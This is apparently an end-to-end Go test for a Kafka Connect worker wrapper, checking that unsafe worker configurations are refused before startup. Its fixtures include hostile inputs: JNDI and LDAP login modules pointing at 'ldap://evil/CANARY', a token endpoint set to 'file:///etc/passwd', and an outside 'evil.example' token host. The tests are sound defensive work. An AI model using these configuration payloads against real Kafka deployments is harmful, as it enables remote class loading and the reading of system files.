//go:build e2e

package e2e

import (
	"context"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/millrace/millrace/e2e/harness"
)

// TestSecurity_WorkerFilesThatAreRefused starts workers whose files name code to run, or hosts and files that tokens
// shall come from: each ends at once, before it connects to anything, and says which key it is.
func TestSecurity_WorkerFilesThatAreRefused(t *testing.T) {
	program := suite.Program(t)
	dir := t.TempDir()
	jaas := filepath.Join(dir, "jaas.conf")
	if err := os.WriteFile(jaas, []byte(`KafkaClient { com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://evil/CANARY"; };`), 0o600); err != nil {
		t.Fatal(err)
	}
	login := func(mechanism, text string, more ...string) harness.Properties {
		p := harness.Properties{"security.protocol": "SASL_SSL", "sasl.mechanism": mechanism}
		if text != "" {
			p["sasl.jaas.config"] = text
		}
		for i := 0; i < len(more); i += 2 {
			p[more[i]] = more[i+1]
		}
		return p
	}
	const (
		oauth = `org.apache.kafka.common.security.oauthbearer.OAuthBearerLoginModule required clientId="i" clientSecret="CANARY";`
		plain = plainModule + ` required username="u" password="CANARY";`
		url   = "sasl.oauthbearer.token.endpoint.url"
	)
	for name, c := range map[string]struct {
		props harness.Properties
		opts  string
		says  string
	}{
		"a login module with JNDI":         {login("PLAIN", `com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://evil/CANARY";`), "", "com.sun.security.auth.module.JndiLoginModule is not allowed"},
		"a login module with LDAP":         {login("PLAIN", `com.sun.security.auth.module.LdapLoginModule required userProvider="ldap://evil/CANARY";`), "", "com.sun.security.auth.module.LdapLoginModule is not allowed"},
		"any login module":                 {login("SCRAM-SHA-256", `com.example.MyLoginModule required password="CANARY";`), "", "com.example.MyLoginModule is not allowed"},
		"two login modules":                {login("PLAIN", plain+" "+plain), "", "JAAS config property contains 2 login modules, should be 1 module"},
		"a login module in a file":         {login("PLAIN", ""), "-Djava.security.auth.login.config=" + jaas, "com.sun.security.auth.module.JndiLoginModule is not allowed"},
		"a file of tokens":                 {login("OAUTHBEARER", oauth, url, "file:///etc/passwd"), "", "an http or https URL must stand here"},
		"a host that is not on the list":   {login("OAUTHBEARER", oauth, url, "https://evil.example/token", "millrace.sasl.oauthbearer.allowed.urls", "https://id.example/token"), "", "https://evil.example/token is not allowed"},
		"neither by Java's property":       {login("OAUTHBEARER", oauth, url, "https://evil.example/token"), "-Dorg.apache.kafka.sasl.oauthbearer.allowed.urls=https://id.example/token", "https://evil.example/token is not allowed"},
		"a handler of one's own":           {login("PLAIN", plain, "sasl.client.callback.handler.class", "com.example.H"), "", "Java classes cannot be loaded here"},
		"a provider of one's own":          {harness.Properties{"config.providers": "v", "config.providers.v.class": "com.example.VaultConfigProvider"}, "", "config.providers.v.class"},
		"a provider of any path":           {harness.Properties{"config.providers": "f", "config.providers.f.class": "FileConfigProvider", "config.providers.f.param.allowed.paths": "../etc"}, "", "is not absolute"},
		"a provider of a path that is not": {harness.Properties{"config.providers": "f", "config.providers.f.class": "FileConfigProvider", "config.providers.f.param.allowed.paths": "/no/such/path"}, "", "does not exist"},
		"a policy of one's own":            {harness.Properties{"connector.client.config.override.policy": "com.example.EvilPolicy"}, "", "Class com.example.EvilPolicy could not be found"},
		"a security that is none":          {harness.Properties{"millrace.rest.security": "strictly"}, "", "millrace.rest.security"},
		"a grant that is none":             {harness.Properties{"millrace.rest.role.edit": "everybody"}, "", "millrace.rest.role.edit"},
	} {
		file, err := harness.Properties{
			"bootstrap.servers": "127.0.0.1:9", "key.converter": "org.apache.kafka.connect.storage.StringConverter", "value.converter": "org.apache.kafka.connect.storage.StringConverter",
			"offset.storage.file.filename": filepath.Join(dir, "offsets"), "listeners": "http://127.0.0.1:0", "default.api.timeout.ms": "1000",
		}.With(c.props).WriteFile(filepath.Join(t.TempDir(), "worker.properties"))
		if err != nil {
			t.Fatal(err)
		}
		out, err := started(t, program, file, c.opts)
		var exit *exec.ExitError
		if !errors.As(err, &exit) || exit.ExitCode() != 2 || !strings.Contains(string(out), c.says) || strings.Contains(string(out), "connection refused") {
			t.Errorf("%s: %v\n%s", name, err, out)
		}
		if strings.Contains(string(out), "CANARY") {
			t.Errorf("%s: the output shows the secret\n%s", name, out)
		}
	}
}

// started runs a worker that is meant to end by itself.
func started(t *testing.T, program, file, opts string) ([]byte, error) {
	ctx, cancel := context.WithTimeout(t.Context(), 20*time.Second)
	defer cancel()
	command := exec.CommandContext(ctx, program, "standalone", "--log-level=TRACE", file)
	command.Env = append(os.Environ(), "KAFKA_OPTS="+opts)
	return command.CombinedOutput()
}
